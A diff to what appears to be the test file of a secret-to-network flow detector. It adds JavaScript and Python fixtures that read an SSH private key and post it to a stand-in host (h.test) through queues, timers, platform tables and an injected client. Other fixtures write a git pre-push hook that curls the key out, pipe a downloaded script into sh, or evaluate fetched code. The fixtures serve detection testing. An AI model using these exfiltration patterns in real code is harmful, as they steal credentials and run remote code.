@@ -87,6 +87,14 @@ const JS: Readonly<Record<string, string>> = {
     'fetch(U).then((r) => r.text()).then((t) => (async () => {}).constructor(t)());',
   'rules of an answer, or built-in ones':
     "const D = [{ w: 'a' }];\nasync function rules() { try { const r = await fetch(U); return r.ok ? await r.json() : D; } catch { return D; } }\nrules().then((all) => all.map((one) => new Function('a', `return (${one.w})`)));",
+  'queue that a timer empties':
+    "class Q { constructor() { this.items = []; setInterval(() => this.flush(), 1000); } add(x) { this.items.push(x); } async flush() { await fetch(U, { method: 'POST', body: JSON.stringify(this.items) }); } }\nconst q = new Q();\nq.add(fs.readFileSync(KEY, 'utf8'));",
+  'table of records by platform':
+    "const T = { darwin: { file: '/tmp/a', say: (d) => `a ${d}` }, linux: { file: '/tmp/b', say: (d) => `b ${d}` } };\nconst t = T[process.platform];\nfs.writeFileSync(t.file, t.say(fs.readFileSync(KEY, 'utf8')));\nfetch(U, { method: 'POST', body: fs.readFileSync('/tmp/b') });",
+  'rows of a name and its lines':
+    "const H = { 'post-checkout': ['true'], 'pre-push': ['X=1', `curl --data-binary @/home/u/.ssh/id_rsa ${U}`] };\nfor (const [name, lines] of Object.entries(H)) { fs.writeFileSync(`.git/hooks/${name}`, ['#!/bin/sh', ...lines].join('\\n')); }",
+  'client that was handed in':
+    'export async function write(context) { await context.request.post(U, { data: { env: await fs.promises.readFile(KEY) } }); }',
   'script of vm': 'fetch(U).then((r) => r.text()).then((t) => new vm.Script(t).runInNewContext({ require }));',
 };
 
@@ -124,6 +132,10 @@ const PY: Readonly<Record<string, string>> = {
     'from concurrent.futures import ThreadPoolExecutor, as_completed\nwith ThreadPoolExecutor() as ex:\n    fs = [ex.submit(lambda p: open(p).read(), p) for p in [KEY]]\n    for f in as_completed(fs):\n        requests.post(U, data=f.result())',
   'queue between threads':
     'import queue, threading\nq = queue.Queue()\ndef work():\n    while True:\n        requests.post(U, data=q.get())\nthreading.Thread(target=work).start()\nq.put(open(KEY).read())',
+  'queue that a task empties':
+    'async def work(q):\n    while True:\n        requests.post(U, data=await q.get())\nasync def main():\n    q = asyncio.Queue()\n    asyncio.create_task(work(q))\n    await q.put(open(KEY).read())\nasyncio.run(main())',
+  'template of the standard library': 'import string\nos.system(string.Template("curl $u | sh").substitute(u=U))',
+  'client that was handed in': 'def go(http):\n    http.post(U, json={"k": open(KEY).read()})',
   'cached function':
     'import functools\n@functools.lru_cache\ndef key():\n    return open(KEY).read()\nrequests.post(U, data=key())',
   'named tuple':
@@ -175,6 +187,18 @@ const expandPy = (program: string): string =>
       'f"curl -d @{"/home/u/.ssh/id_rsa"} {"https://h.test/x"}"',
       "f\"curl -d @{'/home/u/.ssh/id_rsa'} {'https://h.test/x'}\"",
     )}\n`;
+
+describe('several files', () => {
+  it('a thread of one takes in what another puts there', () => {
+    const { flows } = run({
+      'scripts/a.py':
+        "from trace import Trace\nt = Trace('https://h.test/x')\nt.offer(open('/home/u/.ssh/id_rsa').read())\n",
+      'scripts/trace.py':
+        'import queue, threading, requests\nclass Trace:\n    def __init__(self, sink):\n        self.sink = sink\n        self.q = queue.Queue()\n        threading.Thread(target=self._drain).start()\n    def offer(self, item):\n        self.q.put_nowait(item)\n    def _drain(self):\n        while True:\n            requests.post(self.sink, data=self.q.get())\n',
+    });
+    expect(flows().some(({ from, to }) => to === 'network' && from.some((tag) => SECRET.test(tag)))).toBe(true);
+  });
+});
 
 describe('python', () => {
   for (const [idiom, program] of Object.entries(PY))
